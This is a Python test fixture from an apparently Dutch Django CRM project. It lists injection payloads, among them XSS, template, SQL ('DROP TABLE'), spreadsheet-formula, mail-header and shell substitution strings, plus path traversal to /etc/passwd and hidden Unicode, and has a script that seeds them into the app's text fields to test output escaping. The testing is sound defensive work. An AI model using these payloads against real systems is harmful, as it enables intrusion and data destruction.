"""Texts that would act if anything took them for more than text, and where they are put."""

from __future__ import annotations

CANARY = "kanarie-4711"
# HTML, attributes, addresses, script in JSON, templates, SQL, formulas, mail heads, shell, paths,
# and signs that turn text around or hide it (OWASP ASVS 5.0, 1.2, 1.3; reliability 37-41).
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<style>@import'https://kwaad.invalid/x.css';</style>",
    "<link rel=stylesheet href=https://kwaad.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=https://kwaad.invalid'>",
    "<base href=https://kwaad.invalid/>",
    "<form action=https://kwaad.invalid><button>ok",
    "<img src=https://kwaad.invalid/pixel.png>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "{settings.SECRET_KEY} {0.__class__}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "hx-get='https://kwaad.invalid' hx-trigger='load'",
    "<div hx-get='https://kwaad.invalid' hx-trigger='load'>x</div>",
    "'; DROP TABLE base_member; --",
    "1) OR 1=1 --",
    "%' AND 1=CAST((SELECT 1) AS INT) AND '%'='",
    "=HYPERLINK(\"https://kwaad.invalid\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "naam\r\nBcc: kwaad@kwaad.invalid",
    "`id` $(id) ; id | id",
    "../../../../etc/passwd",
    "\u202eevil\u202c omgekeerd",
    "a\u0000b \u200b\ufeffonzichtbaar",
    "z\u0335\u0321\u0322" * 20,
    "𝒜" * 60,
)  # fmt: skip
# Put into the web's own tables, by a process beside the server: each text field, each payload.
FILL = """
import json, sys
import kernklant.web.project.ready
from datetime import date, timedelta
from django.utils import timezone
from kernklant.web.base.models import Member, Role, Team
from kernklant.web.desk.models import SavedView
from kernklant.web.ledger.models import ContactPerson, Customer, Note, Import
from kernklant.web.segments.models import Override, SegmentMove, Standing
from kernklant.web.value.models import Policy, Evaluation
payloads = json.loads(sys.argv[1])
whole = " | ".join(payloads).replace(chr(0), "")
director = Member.objects.get(email="dirk.de.vries@devries.invalid")
numbers = list(Standing.objects.order_by("-clv").values_list("customer", flat=True)[:len(payloads)])
for number, text in zip(numbers, payloads):
    text = text.replace(chr(0), "")
    Note.objects.create(customer=number, by=director, text=whole[:5000])
    ContactPerson.objects.create(
        customer=number, name=text[:200], function=text[:100], phone=text[:50], remark=text[:300]
    )
    Override.objects.create(customer=number, segment="A", by=director, why=text[:300],
                            until=date.today() + timedelta(days=30))
    SavedView.objects.create(member=director, name=text[:80], query="zoek=" + text[:80])
    Team.objects.create(name=text[:100])
    Member.objects.create_user("p%d@kwaad.invalid" % number, name=text[:100], role=Role.ANALYST)
    Policy.objects.filter(adopted_at=None).update(title=text[:100])
    Import.objects.create(key="inject-%d" % number, file_name=text[:255], state="failed",
                          error_nl=text, error_en=text, asked_by=director)
    Evaluation.objects.create(key="inject-%d" % number, state="failed", error_nl=text,
                              error_en=text, asked_by=director)
SegmentMove.objects.filter(customer__in=numbers).update(proposed="accepted", proposed_by=director,
                                                        proposed_why=whole[:300])
print(json.dumps(numbers))
"""
